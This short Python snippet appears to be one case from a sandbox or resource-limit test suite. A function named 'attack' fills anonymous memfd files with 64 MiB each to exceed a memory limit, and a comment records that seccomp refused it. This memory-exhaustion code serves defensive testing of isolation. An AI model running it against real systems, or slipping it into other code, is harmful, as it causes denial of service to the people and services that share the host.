# Fills files that exist only as descriptors, in memory that no process has mapped, beyond the limit.
# Seen: refused by seccomp.
import os


def attack(targets):
    for _ in range(targets.over_limit // 2**26):
        descriptor = os.memfd_create("hoard")
        for _ in range(64):
            os.write(descriptor, bytes(2**20))
    return b"done"
